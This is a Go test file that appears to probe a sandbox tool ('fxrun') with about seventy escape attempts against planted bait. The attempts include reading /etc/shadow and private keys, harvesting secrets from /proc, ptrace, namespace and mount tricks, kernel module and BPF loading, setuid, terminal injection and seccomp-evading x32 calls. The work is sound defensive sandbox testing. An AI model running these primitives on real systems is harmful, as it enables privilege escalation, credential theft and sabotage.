//go:build linux && (amd64 || arm64)

package escape

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// bait is what the host puts out for an attempt to catch.
type bait struct {
	Key      string // path of a private key on the host
	Secret   string // what is in it, and in the environment of fxrun
	TCP      string // address on which the host listens
	Unix     string // path on which the host listens
	Abstract string // abstract name on which the host listens
	PID      int    // of a process of the host, which has Secret in its environment
	Shm      int    // id of a segment of System V shared memory of the host
}

// native are the attempts of a program that makes system calls. Each returns
// what it caught, or why it caught nothing.
var native = []struct {
	name string
	try  func(bait) (string, error)
}{
	{"read a private key by its path", func(b bait) (string, error) { return read(b.Key) }},
	{"read the host's password hashes", func(bait) (string, error) { return read("/etc/shadow") }},
	{"find out that the key exists", func(b bait) (string, error) { return "it exists", statError(b.Key) }},
	{"list home folders", func(bait) (string, error) { return list("/root", "/home") }},
	{"find a key or a certificate by walking the whole tree", walkForKeys},
	{"see a secret in the environment", func(b bait) (string, error) { return findSecret(strings.Join(os.Environ(), "\n"), b) }},
	{"read the environment of fxrun in /proc", func(b bait) (string, error) { return procOf(b, "environ") }},
	{"read the command lines of the host in /proc", func(b bait) (string, error) { return procOf(b, "cmdline") }},
	{"read the memory of the box's first process", func(bait) (string, error) { return read("/proc/1/mem") }},
	{"look through /proc/1/root", func(b bait) (string, error) { return read("/proc/1/root" + b.Key) }},
	{"climb out of the root with ..", func(b bait) (string, error) { return read(strings.Repeat("../", 40) + b.Key) }},
	{"find a descriptor that was left open", openDescriptors},
	{"write to the approved code", func(bait) (string, error) { return write(at("/workspace/src/code.py")) }},
	{"make the approved code writable first", func(bait) (string, error) {
		if err := os.Chmod(at("/workspace/src/code.py"), 0o777); err != nil {
			return "", err
		}
		return write(at("/workspace/src/code.py"))
	}},
	{"add a file to the code", func(bait) (string, error) { return write(at("/workspace/src/more.py")) }},
	{"replace the code by renaming", func(bait) (string, error) {
		return "renamed", os.Rename(at("/workspace/src/code.py"), at("/workspace/src/old.py"))
	}},
	{"write to the site's data", func(bait) (string, error) { return write(at("/data/rows.csv")) }},
	{"delete the site's data", func(bait) (string, error) { return "deleted", os.Remove(at("/data/rows.csv")) }},
	{"write to the host's programs", func(bait) (string, error) { return write("/usr/bin/sh.new") }},
	{"write to the root folder", func(bait) (string, error) { return write("/new") }},
	{"write to /etc/passwd", func(bait) (string, error) { return write("/etc/passwd") }},
	{"link the data into scratch, to write there", func(bait) (string, error) {
		if err := os.Link(at("/data/rows.csv"), at("/scratch/rows.csv")); err != nil {
			return "", err
		}
		return write(at("/scratch/rows.csv"))
	}},
	{"reach the key through a symbolic link in scratch", func(b bait) (string, error) {
		if err := os.Symlink(b.Key, at("/scratch/link")); err != nil {
			return "", err
		}
		return read(at("/scratch/link"))
	}},
	{"open a disk or the machine's memory", func(bait) (string, error) {
		return first(read, "/dev/sda", "/dev/vda", "/dev/mem", "/dev/kmsg", "/dev/port", "/dev/fuse", "/dev/kvm", "/dev/tty")
	}},
	{"make a device node", func(bait) (string, error) {
		return "made", unix.Mknod(at("/scratch/disk"), unix.S_IFBLK|0o600, int(unix.Mkdev(254, 0)))
	}},
	{"mount something", func(bait) (string, error) { return "mounted", unix.Mount("none", at("/scratch"), "tmpfs", 0, "") }},
	{"mount with the new calls", func(bait) (string, error) {
		fd, err := unix.Fsopen("tmpfs", 0)
		if err == nil {
			return fmt.Sprint("context ", fd), nil
		}
		_, err = unix.OpenTree(unix.AT_FDCWD, "/", unix.OPEN_TREE_CLONE)
		return "tree", err
	}},
	{"make the code writable by mounting it again", func(bait) (string, error) {
		return "remounted", unix.Mount("", at("/workspace"), "", unix.MS_REMOUNT|unix.MS_BIND, "")
	}},
	{"unmount what hides the host", func(bait) (string, error) { return "unmounted", unix.Unmount("/", unix.MNT_DETACH) }},
	{"change the root", func(bait) (string, error) {
		if err := unix.Chroot(at("/scratch")); err == nil {
			return "chroot", nil
		}
		return "pivoted", unix.PivotRoot(at("/scratch"), at("/scratch"))
	}},
	{"open a file by its handle", func(bait) (string, error) {
		h := unix.NewFileHandle(1, make([]byte, 8))
		_, err := unix.OpenByHandleAt(unix.AT_FDCWD, h, 0)
		return "opened", err
	}},
	{"make a user namespace", func(bait) (string, error) { return "made", unix.Unshare(unix.CLONE_NEWUSER) }},
	{"make a mount or network namespace", func(bait) (string, error) {
		return "made", errors.Join(unix.Unshare(unix.CLONE_NEWNS), unix.Unshare(unix.CLONE_NEWNET))
	}},
	{"make a user namespace by clone", func(bait) (string, error) { return start(&syscall.SysProcAttr{Cloneflags: unix.CLONE_NEWUSER}) }},
	{"make a user namespace by clone3", clone3},
	{"join the namespaces of another process", func(b bait) (string, error) {
		return first(func(name string) (string, error) {
			fd, err := unix.Open(name, unix.O_RDONLY, 0)
			if err != nil {
				return "", err
			}
			return "joined " + name, unix.Setns(fd, 0)
		}, "/proc/1/ns/mnt", "/proc/1/ns/net", fmt.Sprintf("/proc/%d/ns/net", b.PID))
	}},
	{"trace another process", func(b bait) (string, error) {
		for _, pid := range []int{1, os.Getppid(), b.PID} {
			if unix.PtraceAttach(pid) == nil {
				return fmt.Sprint("attached to ", pid), nil
			}
		}
		return "traced", sys(unix.SYS_PTRACE, unix.PTRACE_TRACEME, 0, 0)
	}},
	{"read the memory of another process", func(b bait) (string, error) {
		buf := make([]byte, 8)
		for _, pid := range []int{1, b.PID} {
			local := []unix.Iovec{{Base: &buf[0], Len: 8}}
			if _, err := unix.ProcessVMReadv(pid, local, []unix.RemoteIovec{{Base: 0x400000, Len: 8}}, 0); err == nil {
				return "read", nil
			}
		}
		return "", unix.EPERM
	}},
	{"take a descriptor of another process", func(bait) (string, error) {
		fd, err := unix.PidfdOpen(1, 0)
		if err != nil {
			return "", err
		}
		_, err = unix.PidfdGetfd(fd, 0, 0)
		return "taken", err
	}},
	{"end a process of the host", func(b bait) (string, error) { return "signal sent", unix.Kill(b.PID, unix.SIGKILL) }},
	{"end the box's first process", func(bait) (string, error) {
		_ = unix.Kill(1, unix.SIGKILL) // ignored, like every signal that it does not handle
		time.Sleep(50 * time.Millisecond)
		return "", errors.New("it lives on")
	}},
	{"connect to the host over TCP", func(b bait) (string, error) { return dial("tcp", b.TCP) }},
	{"connect to another machine", func(bait) (string, error) { return dial("tcp", "192.0.2.1:443") }},
	{"send a datagram", func(bait) (string, error) { return dial("udp", "192.0.2.1:53") }},
	{"listen on a port", func(bait) (string, error) {
		l, err := net.Listen("tcp", "127.0.0.1:0")
		return fmt.Sprint(l), err
	}},
	{"look up a name", func(bait) (string, error) {
		a, err := net.LookupHost("example.com")
		return fmt.Sprint(a), err
	}},
	{"connect to a Unix socket by its path", func(b bait) (string, error) { return dial("unix", b.Unix) }},
	{"connect to an abstract Unix socket", func(b bait) (string, error) { return dial("unix", b.Abstract) }},
	{"open a socket of any of the 46 families", everySocket},
	{"make a pair of sockets of another family", func(bait) (string, error) {
		for family := range 46 {
			if family == unix.AF_UNIX {
				continue
			}
			if _, err := unix.Socketpair(family, unix.SOCK_STREAM, 0); err == nil {
				return fmt.Sprint("family ", family), nil
			}
		}
		return "", unix.EACCES
	}},
	{"use io_uring", func(bait) (string, error) {
		params := make([]byte, 256)
		return "ring", sys(unix.SYS_IO_URING_SETUP, 8, uintptr(unsafe.Pointer(&params[0])), 0)
	}},
	{"use the kernel's keyrings", func(bait) (string, error) {
		if _, err := unix.KeyctlGetKeyringID(unix.KEY_SPEC_SESSION_KEYRING, true); err == nil {
			return "keyring", nil
		}
		_, err := unix.AddKey("user", "x", []byte("y"), unix.KEY_SPEC_PROCESS_KEYRING)
		return "key", err
	}},
	{"load a BPF program", func(bait) (string, error) {
		attr := make([]byte, 128)
		attr[0], attr[4], attr[8], attr[12] = 2, 4, 4, 1 // a map
		return "map", sys(unix.SYS_BPF, 0, uintptr(unsafe.Pointer(&attr[0])), 72)
	}},
	{"watch performance counters", func(bait) (string, error) {
		_, err := unix.PerfEventOpen(&unix.PerfEventAttr{Type: unix.PERF_TYPE_SOFTWARE, Size: uint32(unsafe.Sizeof(unix.PerfEventAttr{}))}, 0, -1, -1, 0)
		return "counter", err
	}},
	{"handle page faults in user space", func(bait) (string, error) { return "descriptor", sys(unix.SYS_USERFAULTFD, 1, 0, 0) }},
	{"load a kernel module", func(bait) (string, error) {
		if err := unix.FinitModule(0, "", 0); err == nil {
			return "loaded", nil
		}
		return "loaded", unix.InitModule([]byte("x"), "")
	}},
	{"load another kernel", func(bait) (string, error) { return "loaded", sys(unix.SYS_KEXEC_LOAD, 0, 0, 0) }},
	{"become root", func(bait) (string, error) {
		if err := syscall.Setuid(0); err == nil && os.Getuid() != 0 {
			return "uid 0", nil
		}
		return fmt.Sprint(os.Getuid()), syscall.Setresuid(0, 0, 0)
	}},
	{"take capabilities", func(bait) (string, error) {
		h := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
		d := [2]unix.CapUserData{{Effective: 1 << unix.CAP_SYS_ADMIN, Permitted: 1 << unix.CAP_SYS_ADMIN}}
		return "taken", unix.Capset(&h, &d[0])
	}},
	{"join a group of the host", func(bait) (string, error) { return "joined", syscall.Setgroups([]int{0, 27, 999}) }},
	{"gain by a set-user-id program", func(bait) (string, error) {
		out, err := exec.Command("/usr/bin/su", "-c", "id").CombinedOutput()
		if strings.Contains(string(out), "uid=0") {
			return string(out), nil
		}
		return "", fmt.Errorf("no: %v", err)
	}},
	{"switch no_new_privs or the filter off", func(bait) (string, error) {
		err := unix.Prctl(unix.PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0)
		v, _ := unix.PrctlRetInt(unix.PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0)
		if err == nil || v != 1 {
			return "off", nil
		}
		if err := unix.Prctl(unix.PR_SET_SECCOMP, 0, 0, 0, 0); err == nil {
			return "no filter", nil
		}
		return "", err
	}},
	{"use system calls of another architecture", foreignCall},
	{"change the personality", func(bait) (string, error) { return "changed", sys(unix.SYS_PERSONALITY, 0x0040000, 0, 0) }},
	{"use the ports of the machine", portCalls},
	{"set clock, host name, or restart the machine", func(bait) (string, error) {
		if unix.Sethostname([]byte("owned")) == nil {
			return "host name", nil
		}
		if unix.Settimeofday(&unix.Timeval{Sec: 1}) == nil {
			return "clock", nil
		}
		return "rebooting", unix.Reboot(unix.LINUX_REBOOT_CMD_CAD_OFF)
	}},
	{"swap, quotas and accounting", func(bait) (string, error) {
		if sys(unix.SYS_SWAPON, 0, 0, 0) == nil || unix.Acct(at("/scratch/x")) == nil {
			return "allowed", nil
		}
		return "quota", sys(unix.SYS_QUOTACTL, 0, 0, 0)
	}},
	{"write to /proc/sys and /proc/sysrq-trigger", func(bait) (string, error) {
		return first(write, "/proc/sys/kernel/core_pattern", "/proc/sys/vm/overcommit_memory", "/proc/sysrq-trigger", "/proc/1/oom_score_adj")
	}},
	{"leave the cgroup", func(bait) (string, error) {
		return first(write, "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs", "/sys/fs/cgroup/pids/tasks", "/sys/kernel/uevent_helper")
	}},
	{"raise the limits", func(bait) (string, error) {
		var l unix.Rlimit
		if err := unix.Getrlimit(unix.RLIMIT_NPROC, &l); err != nil {
			return "", err
		}
		l.Cur, l.Max = unix.RLIM_INFINITY, unix.RLIM_INFINITY
		return "raised", unix.Setrlimit(unix.RLIMIT_NPROC, &l)
	}},
	{"read shared memory of the host", func(b bait) (string, error) {
		if b.Shm < 0 {
			return "", errors.New("the host has none")
		}
		_, err := unix.SysvShmAttach(b.Shm, 0, unix.SHM_RDONLY)
		return "attached", err
	}},
	{"type into a terminal", func(bait) (string, error) {
		c := byte('x')
		for fd := range uintptr(3) {
			if sys(unix.SYS_IOCTL, fd, unix.TIOCSTI, uintptr(unsafe.Pointer(&c))) == nil {
				return "typed", nil
			}
		}
		return "", unix.EPERM
	}},
	{"watch the whole file system", func(bait) (string, error) {
		_, err := unix.FanotifyInit(unix.FAN_CLASS_NOTIF, 0)
		return "watching", err
	}},
	{"read the kernel's log", func(bait) (string, error) { _, err := unix.Klogctl(3, make([]byte, 100)); return "log", err }},
}

// folders are where the box's folders are for a process inside: in a confined
// box at other places.
var folders = map[string]string{}

// at is the path of something in one of the box's folders.
func at(path string) string {
	folder, rest, _ := strings.Cut(strings.TrimPrefix(path, "/"), "/")
	return filepath.Join(folders["/"+folder], rest)
}

func read(name string) (string, error) {
	f, err := os.OpenFile(name, os.O_RDONLY|unix.O_NONBLOCK, 0)
	if err != nil {
		return "", err
	}
	buf := make([]byte, 64)
	n, err := f.Read(buf)
	if err != nil {
		return "", err
	}
	return strconv.Quote(string(buf[:n])), nil
}

func write(name string) (string, error) {
	f, err := os.OpenFile(name, os.O_WRONLY|os.O_CREATE, 0o600)
	if err != nil {
		return "", err
	}
	_, err = f.WriteString("owned")
	return "wrote " + name, err
}

// first tries each and returns the first success, or the last failure.
func first(try func(string) (string, error), names ...string) (got string, err error) {
	for _, name := range names {
		if got, err = try(name); err == nil {
			return got, nil
		}
	}
	return "", err
}

func statError(name string) error {
	_, err := os.Stat(name)
	return err
}

func list(dirs ...string) (string, error) {
	var found []string
	var problem error = unix.ENOENT
	for _, d := range dirs {
		entries, err := os.ReadDir(d)
		if err != nil {
			problem = err
		}
		for _, e := range entries {
			found = append(found, e.Name())
		}
	}
	if len(found) > 0 {
		return strings.Join(found, " "), nil
	}
	return "", problem
}

// walkForKeys looks at every file that it can read for the key's text. The
// host's programs and their like are skipped: they are shown on purpose.
func walkForKeys(b bait) (string, error) {
	found := ""
	err := filepath.WalkDir("/", func(name string, d os.DirEntry, err error) error {
		switch {
		case err != nil:
			return nil //nolint:nilerr // what cannot be looked at is no find
		case d.IsDir() && slices.Contains([]string{"/proc", "/sys", "/dev", "/usr", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/fx"}, name):
			return filepath.SkipDir
		case !d.Type().IsRegular():
			return nil
		}
		text, err := os.ReadFile(name)
		if err == nil && (bytes.Contains(text, []byte(b.Secret)) || bytes.Contains(text, []byte("PRIVATE KEY"))) {
			found = name
		}
		return nil
	})
	if found == "" {
		return "", errors.Join(err, errors.New("nothing found"))
	}
	return found, err
}

func findSecret(text string, b bait) (string, error) {
	if strings.Contains(text, b.Secret) {
		return b.Secret, nil
	}
	return "", errors.New("not there")
}

func procOf(b bait, file string) (string, error) {
	names, err := filepath.Glob("/proc/[0-9]*/" + file)
	if err != nil {
		return "", err
	}
	for _, name := range append(names, fmt.Sprintf("/proc/%d/%s", b.PID, file)) {
		text, err := os.ReadFile(name)
		if err == nil && bytes.Contains(text, []byte(b.Secret)) && !strings.Contains(name, strconv.Itoa(os.Getpid())) {
			return name, nil
		}
	}
	return "", errors.New("not there")
}

// openDescriptors looks for what fxrun had open when it started the box.
func openDescriptors(bait) (string, error) {
	entries, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		return "", err
	}
	for _, e := range entries {
		target, err := os.Readlink("/proc/self/fd/" + e.Name())
		fd, _ := strconv.Atoi(e.Name())
		if err != nil || fd <= 2 || strings.HasPrefix(target, "anon_inode:") || strings.HasPrefix(target, "/proc/") || strings.HasPrefix(target, "/sys/fs/cgroup") {
			continue // Go's own
		}
		return e.Name() + " is " + target, nil
	}
	return "", errors.New("only standard input, output and error")
}

func dial(network, address string) (string, error) {
	c, err := net.DialTimeout(network, address, 2*time.Second)
	if err != nil {
		return "", err
	}
	_, err = c.Write([]byte("secret"))
	return "connected", err
}

func everySocket(bait) (string, error) {
	for family := range 46 {
		for _, kind := range []int{unix.SOCK_STREAM, unix.SOCK_DGRAM, unix.SOCK_RAW, unix.SOCK_SEQPACKET} {
			if _, err := unix.Socket(family, kind, 0); err == nil {
				return fmt.Sprintf("family %d, type %d", family, kind), nil
			}
		}
	}
	_, err := unix.Socket(unix.AF_VSOCK, unix.SOCK_STREAM, 0)
	return "", err
}

func start(attr *syscall.SysProcAttr) (string, error) {
	c := exec.Command("/proc/self/exe", "-test.list=^$")
	c.SysProcAttr = attr
	if err := c.Run(); err != nil {
		return "", err
	}
	return "started", nil
}

func clone3(bait) (string, error) {
	args := make([]byte, 88)
	binary.NativeEndian.PutUint64(args, unix.CLONE_NEWUSER)
	binary.NativeEndian.PutUint64(args[32:], uint64(unix.SIGCHLD))
	pid, _, errno := unix.RawSyscall(unix.SYS_CLONE3, uintptr(unsafe.Pointer(&args[0])), 88, 0)
	if errno != 0 {
		return "", errno
	}
	if pid == 0 {
		_, _, _ = unix.RawSyscall(unix.SYS_EXIT_GROUP, 0, 0, 0)
	}
	return "made", nil
}

// foreignCall makes a call by x32's numbers, where the machine is one that has
// them: a filter that looks at numbers alone takes it for another call.
func foreignCall(bait) (string, error) {
	if runtime.GOARCH != "amd64" {
		return "", errors.New("this machine has none")
	}
	return "called", sys(0x40000000+uintptr(unix.SYS_GETPID), 0, 0, 0)
}

func portCalls(bait) (string, error) {
	if runtime.GOARCH != "amd64" {
		return "", errors.New("this machine has none")
	}
	const iopl, ioperm, modifyLDT = 172, 173, 154
	if sys(iopl, 3, 0, 0) == nil || sys(ioperm, 0, 100, 1) == nil {
		return "ports", nil
	}
	buf := make([]byte, 16)
	return "table", sys(modifyLDT, 0, uintptr(unsafe.Pointer(&buf[0])), 16)
}

func sys(nr, a, b, c uintptr) error {
	if _, _, errno := unix.Syscall(nr, a, b, c); errno != 0 {
		return errno
	}
	return nil
}
